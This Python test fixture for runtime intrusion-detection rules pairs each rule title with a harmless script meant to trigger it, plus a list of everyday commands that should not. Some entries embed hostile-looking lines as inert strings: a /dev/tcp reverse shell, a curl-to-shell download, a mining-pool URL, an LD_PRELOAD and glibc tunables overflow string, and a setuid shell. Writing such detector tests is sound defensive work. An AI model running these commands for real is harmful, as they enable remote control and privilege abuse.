"""For each rule that comes with whatran a harmless script that does what the rule is about.

A script is run by sh -e, in a session of its own, with a new directory in /tmp as the current one; $PYTHON is an
interpreter, $CONTAINER a cgroup with a container's name.
"""

AS_NOBODY = "setpriv --reuid 65534 --regid 65534 --clear-groups"

CONTAINER = 'echo $$ > "$CONTAINER/cgroup.procs"'

LOADER = "$(ls /lib64/ld-linux-x86-64.so.2 /lib/ld-linux-aarch64.so.1 2>/dev/null)"

MEMFD = """
import os
file = os.memfd_create("x")
os.write(file, open("/bin/true", "rb").read())
os.execve(file, ["x"], os.environ)
"""

DELETED = """
import os, shutil
file = os.open(shutil.copy("/bin/true", "x"), os.O_RDONLY)
os.unlink("x")
os.execve(file, ["x"], os.environ)
"""

WITH_SOCKET = """
import socket, subprocess, sys
ours, theirs = socket.socketpair()
with theirs, ours:
    ours.shutdown(socket.SHUT_WR)
    subprocess.run(sys.argv[1:], stdin=theirs, check=True)
"""

FILE_CAPABILITY = """
import os, shutil, struct
VFS_CAP_REVISION_2, EFFECTIVE, CAP_NET_BIND_SERVICE = 0x02000000, 1, 10
shutil.copy("/bin/true", "x")
capabilities = struct.pack("<5I", VFS_CAP_REVISION_2 | EFFECTIVE, 1 << CAP_NET_BIND_SERVICE, 0, 0, 0)
os.setxattr("x", "security.capability", capabilities)
"""

NO_ARGUMENTS = """
import ctypes
none = (ctypes.c_char_p * 1)()
ctypes.CDLL(None).execve(b"/bin/true", none, none)
"""

CALLED = """
import os, sys
os.execv("/bin/true", sys.argv[1:])
"""

LOGGED_IN = """
import os
open("/proc/self/loginuid", "w").write("65534")
os.execv("/bin/true", ["true"])
"""

ON_A_TERMINAL = """
import os, pty
pid, terminal = pty.fork()
if pid == 0:
    open("/proc/self/loginuid", "w").write(str(2**32 - 1))
    os.setresgid(65534, 65534, 65534)
    os.setresuid(65534, 65534, 65534)
    os.execv("/bin/sh", ["sh", "-c", "true"])
os.waitpid(pid, 0)
"""


def _python(program, *arguments):
    return f"\"$PYTHON\" -c '{program}' {' '.join(arguments)}"


SCRIPTS = {
    "Burst Of Reconnaissance": "whoami; id; uname; arch; groups; users; df; env",
    "Capabilities Gained From A File": f"{_python(FILE_CAPABILITY)}; {AS_NOBODY} sh -c './x; true'",
    "Command Names A Setting That Has The Kernel Start Programs": "sh -c ': /proc/sys/kernel/core_pattern'",
    "Container Enters Another Namespace": f"{CONTAINER}; unshare --mount true",
    "Decoded Text Fed To An Interpreter": "echo dHJ1ZQo= | base64 -d | sh",
    "Download Fed To An Interpreter": "cp /bin/echo curl; ./curl true | sh",
    "Download Or Decoded Text Piped To A Shell In Arguments": "sh -c 'true || curl -s http://192.0.2.1/ | sh'",
    "Downloaded And Executed": "cp /bin/true curl; ./curl; cp /bin/true x; ./x",
    "Function In An Environment Variable": "env 'X=() { :; }; true' true",
    "Interactive Shell On A Socket": _python(WITH_SOCKET, "sh"),
    "Interpreter Reads Its Program From A Socket": _python(WITH_SOCKET, '"$PYTHON"'),
    "Interpreter Runs An Open Descriptor": "echo true > x; sh /dev/fd/3 3< x",
    "Kernel Module Tool In A Container": f"{CONTAINER}; cp /bin/true insmod; ./insmod x.ko",
    "Libraries Looked For Where Everyone May Write": "LD_LIBRARY_PATH=/tmp/x /bin/true",
    "Library Audits The Loader": "LD_AUDIT=libc.so.6 /bin/true",
    "Library Preloaded": "LD_PRELOAD=libc.so.6 /bin/true",
    "Library Preloaded From Where Everyone May Write": "LD_PRELOAD=/tmp/nosuch.so /bin/true",
    "Loader's Tunables Overflow": "GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A /bin/true",
    "Miner In Arguments": "/bin/echo stratum+tcp://192.0.2.1:9",
    "Namespaces Of Process 1 Entered": "nsenter -t 1 -u true",
    "New Program Of A Web Server": "cp /bin/sh nginx; cp /bin/true x; ./nginx -c './x; true'",
    "Program Dropped Where Everyone May Write": "cp /bin/true x; ./x",
    "Program From A Memfd": _python(MEMFD),
    "Program From A Memory File System": "cp /bin/true /dev/shm/$$; /dev/shm/$$; rm /dev/shm/$$",
    "Program From A Temporary Directory": "cp /bin/true x; ./x",
    "Program In Another Namespace Than Its Creator": "unshare --pid --fork true",
    "Program Named As A Kernel Thread": _python(CALLED, "[kworker/0:1]"),
    "Program Named As A System Service": _python(CALLED, "/usr/sbin/sshd", "-D"),
    "Program Started By The Loader Itself": f"{LOADER} /bin/true",
    "Program That Was Just Written": "cp /bin/true x; ./x",
    "Program That Was Not In The Container's Image": f"""
        {CONTAINER}; mkdir lower upper work merged
        unshare --mount sh -e -c '
            mount -t overlay -o lowerdir=lower,upperdir=upper,workdir=work none merged
            cp /bin/true merged/x; merged/x
        '
    """,
    "Program Under Another Name": _python(CALLED, "nap", "1"),
    "Program Where No Package Puts One": """
        unshare --mount sh -e -c 'mount -t tmpfs none /var/log; cp /bin/true /var/log/x; /var/log/x'
    """,
    "Program Whose File Is Deleted": _python(DELETED),
    "Program Whose Name Hides": "cp /bin/true .x; ./.x",
    "Program Without Even Its Name": _python(NO_ARGUMENTS),
    "Reverse Shell In Arguments": "sh -c ': \"bash -i >& /dev/tcp/192.0.2.1/9 0>&1\"'",
    "Root Without A Way There": _python(LOGGED_IN),
    "Setuid Program That Is Not Well-Known": f"cp /bin/true x; chmod 4755 x; {AS_NOBODY} ./x",
    "Setuid Program Where Everyone May Write": f"cp /bin/true x; chmod 4755 x; {AS_NOBODY} ./x",
    "Shell Fed From A Pipe": "echo true | sh",
    "Shell Of A Database Server": "cp /bin/sh postgres; ./postgres -c 'sh -c true; true'",
    "Shell Of A Service Account On A Terminal": _python(ON_A_TERMINAL),
    "Shell Of A Web Server": "cp /bin/sh nginx; ./nginx -c 'env sh -c true; true'",
    "Shell On A Terminal In A Container": f"{CONTAINER}; {_python(ON_A_TERMINAL)}",
    "Shell Without A History": "HISTFILE=/dev/null sh -c true",
    "Shell Whose Input Is A Socket": _python(WITH_SOCKET, "sh -c true"),
    "Shell With Root's Privilege For Another User": f"cp /bin/sh sh; chmod 4755 sh; {AS_NOBODY} ./sh -p -c true",
    "Terminal Spawned By A One-Liner": _python('import pty; pty.spawn("true")'),
}
"""By the title of the rule."""

BY_ITSELF = "Kernel Started An Unusual Program"
"""What the kernel starts is no child of ours: a rule with a test of its own."""

EVERYDAY = """
ls -l / | sort | head -n 3; grep -c root /etc/passwd; sed -n 1p /etc/passwd | cut -d: -f1 | tr a-z A-Z
find /etc/default -name 'l*' -exec stat -c %s {} + ; awk 'END { print NR }' /etc/passwd; date +%Y; uname -m
tar -cf x.tar -C /etc passwd; tar -tf x.tar | xargs -n 1 basename; gzip x.tar; rm x.tar.gz
printf '#!/bin/sh\\necho script "$@"\\n' > script; chmod +x script; sh script a b; "$PYTHON" -c 'print(1)'
"$PYTHON" -m compileall -q . ; "$PYTHON" -c 'import subprocess; subprocess.run(["sh", "-c", "true"], check=True)'
echo 1 2 | while read -r a b; do expr "$a" + "$b"; done; id -un
env -i PATH="$PATH" nice sh -c 'sleep 0; true' < /dev/null
base64 script | base64 -d > again; cmp script again; mkdir -p a/b; cp -r a c; rm -r a c; tty || true; test -x /bin/sh
"""
"""What is done every day, and is of no rule's concern."""
